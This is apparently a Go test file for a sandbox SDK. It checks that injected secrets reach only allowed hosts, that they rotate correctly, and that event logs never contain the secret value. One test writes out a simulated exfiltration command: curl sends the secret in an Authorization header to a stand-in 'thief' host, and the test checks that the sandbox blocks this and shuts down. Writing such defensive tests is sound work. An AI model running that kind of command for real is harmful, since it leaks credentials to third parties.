package sdk_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/sluicenet/sluice/internal/netlab"
	m "github.com/sluicenet/sluice/sdk"
)

// TestSecretInjection checks a secret from its option to the server that gets it:
// the guest sends and sees a placeholder, the server sees the value, and events
// tell of it.
func TestSecretInjection(t *testing.T) {
	t.Parallel()
	netlab.Tool(t, "curl")
	lab := netlab.New(t)
	const value = "correct-horse-battery"
	seen := make(chan string, 8)
	lab.Host(t, "api.secret.example").HTTPS(443, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen <- r.Header.Get("Authorization")
		fmt.Fprintln(w, "you said", r.Header.Get("Authorization"))
	}))
	lab.Host(t, "other.secret.example").HTTPS(443, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		seen <- "other: " + r.Header.Get("Authorization")
	}))
	sb := running(t, "secret-injection",
		m.WithNetwork(m.NetworkPolicy.PublicOnly()),
		m.WithSecrets(m.Secret.Env("KEY", value, m.SecretEnvOptions{AllowHosts: []string{"api.secret.example"}})))
	get := func(host string) *m.ExecOutput {
		t.Helper()
		out, err := sb.Shell(t.Context(), `curl -sS -4 --max-time 20 -H "Authorization: Bearer $KEY" https://`+host+`/`)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	if out := get("api.secret.example"); out.Stdout() != "you said Bearer $MSB_KEY\n" {
		t.Errorf("the guest got %q, %q", out.Stdout(), out.Stderr())
	}
	if got := <-seen; got != "Bearer "+value {
		t.Errorf("the server got %q", got)
	}
	if err := sb.Secrets().Set(t.Context(), "KEY", "another-value"); err != nil {
		t.Fatal(err)
	}
	get("api.secret.example")
	if got := <-seen; got != "Bearer another-value" {
		t.Errorf("after its rotation the server got %q", got)
	}
	get("other.secret.example")
	select {
	case got := <-seen:
		t.Errorf("another host was asked: %s", got)
	default:
	}
	checkSecretEvents(t, sb, value)

	// The policy can be replaced without the values.
	denying := m.NetworkPolicy.PublicOnly()
	denying.DenyDomains = []string{"api.secret.example"}
	if _, err := sb.UpdateNetwork(t.Context(), denying); err != nil {
		t.Fatal(err)
	}
	if out := get("api.secret.example"); out.Success() {
		t.Errorf("a host that is denied now answered %q", out.Stdout())
	}
}

// TestViolationEndsTheSandbox checks that whose command ends with the sandbox learns
// which secret ended it, and where that was on its way to.
func TestViolationEndsTheSandbox(t *testing.T) {
	t.Parallel()
	netlab.Tool(t, "curl")
	lab := netlab.New(t)
	lab.Host(t, "api.ending.example").HTTPS(443, http.NotFoundHandler())
	lab.Host(t, "thief.ending.example").HTTPS(443, http.NotFoundHandler())
	sb := running(t, "violation",
		m.WithSecrets(m.Secret.Env("KEY", "correct-horse", m.SecretEnvOptions{AllowHosts: []string{"api.ending.example"}, OnViolation: m.ViolationActionBlockAndTerminate})))
	_, err := sb.Shell(t.Context(), `curl -sS -4 --max-time 20 -H "Authorization: Bearer $KEY" https://thief.ending.example/; sleep 1000`)
	if !m.IsKind(err, m.ErrSecretViolation) || !strings.Contains(err.Error(), "KEY") || !strings.Contains(err.Error(), "thief.ending.example") || !strings.Contains(err.Error(), "block-and-terminate") {
		t.Errorf("the command: %v", err)
	}
	r, err := sb.WaitUntilStopped(t.Context())
	if err != nil || r.Source == nil || *r.Source != "violation" {
		t.Errorf("ended as %+v, %v", r, err)
	}
	if _, err := sb.Exec(t.Context(), "true", nil); !m.IsKind(err, m.ErrSandboxNotRunning) {
		t.Errorf("another command: %v", err)
	}
}

// checkSecretEvents checks that events tell of interception, requests and
// secrets, in fields that the public type has, and never of a value.
func checkSecretEvents(t *testing.T, sb *m.Sandbox, value string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	want := map[string]bool{
		m.EventTLSIntercept: true, m.EventHTTPRequest: true, m.EventSecretInject: true, m.EventSecretRedact: true, m.EventSecretBlock: true,
	}
	for e, err := range sb.Events(ctx, m.EventFilter{}) {
		if err != nil {
			t.Fatalf("%v; still wanted: %v", err, want)
		}
		dec := json.NewDecoder(bytes.NewReader(e.Line()))
		dec.DisallowUnknownFields()
		if err := dec.Decode(new(m.Event)); err != nil {
			t.Errorf("event %s: %v", e.Line(), err)
		}
		if strings.Contains(string(e.Line()), value) {
			t.Errorf("the value is in %s", e.Line())
		}
		switch {
		case e.HTTP != nil && (e.HTTP.Method != "GET" || e.HTTP.Path != "/"),
			e.Secret != nil && e.Secret.Secret != "KEY",
			e.TLS != nil && !strings.HasSuffix(e.TLS.Name, ".secret.example"):
			t.Errorf("event %s", e.Line())
		}
		if delete(want, e.Type); len(want) == 0 {
			return
		}
	}
	t.Errorf("the events end; still wanted: %v", want)
}
